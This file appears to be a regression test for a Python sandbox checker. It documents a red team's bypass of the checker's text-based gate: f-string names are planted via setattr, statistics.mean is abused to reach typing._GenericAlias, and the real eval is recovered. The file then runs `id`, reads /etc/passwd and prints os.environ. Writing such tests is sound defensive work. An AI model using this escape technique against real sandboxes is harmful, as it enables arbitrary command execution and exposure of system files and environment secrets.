# expect: reject class_value
# line: 56
# why: the red team's round 27d ok_01: the same gate beaten with f-string names given to setattr
# ok_01 -- goal 1 (full escape: runs `id`, prints /etc/passwd and os.environ);
#          on the way goal 2: typing._GenericAlias as a value, then the real eval.
#
# Mechanism: round 27b's statistics.mean class conversion, with the names the fix
#   keys on never written.  statistics._sum sends an int subclass whose
#   as-integer-ratio() raises ValueError down the "(x, None)" branch (total = our
#   __radd__'s answer, total / n = our __truediv__'s answer: typing.List[int]);
#   a plain class with class attributes numer-ator/denom-inator is the second
#   datum, so T = _coerce(int-subclass, type) = `type`, and mean() returns
#   type(typing.List[int]) == typing._GenericAlias.  _GenericAlias(dict,
#   ("eval",), name="__builtins__") deep-copied is operator.getitem(builtins, "eval").
#
# Why the checker missed it: analyzer/stores.c statistics_conversions() only runs
#   when the program TEXT contains "as" "_integer_ratio", "numer" "ator" or "denom" "inator" (written whole)
#   (wk_text_has).  Here those attributes are planted with setattr on the program's
#   own classes under f-string names (f"as_integer{tail}", f"numer{'ator'}"): an
#   f-string with a letter prefix is an allowed computed name (rules/README.md
#   section 1), the receiver is the program's own class, and none of the three
#   words appears in the source (not even in this comment: the check reads comments too), so the class_value refusal never fires.  The rest
#   (calling the returned class, copy.deepcopy of the alias) is judged as plain
#   values, exactly as in round 27b.
import copy
import statistics
import typing


def no_ratio(self):
    raise ValueError("no ratio")


def not_finite(self):
    return False


class Odd(int):
    def __radd__(self, other):
        return self

    def __truediv__(self, other):
        return typing.List[int]


class Ratio:
    pass


tail = "_ratio"
setattr(Odd, f"as_integer{tail}", no_ratio)
setattr(Odd, f"is_fin{'ite'}", not_finite)
setattr(Ratio, f"numer{'ator'}", 1)
setattr(Ratio, f"denom{'inator'}", 1)

maker = statistics.mean([Odd(1), Ratio])
print("statistics.mean handed back:", maker)
alias = maker(dict, ("eval",), name="__builtins__")
ev = copy.deepcopy(alias)
print("copy.deepcopy handed back:", ev)
ev("print(__import__('os').popen('id').read())")
ev("print(__import__('builtins').open('/etc/passwd').read())")
ev("print(dict(__import__('os').environ))")
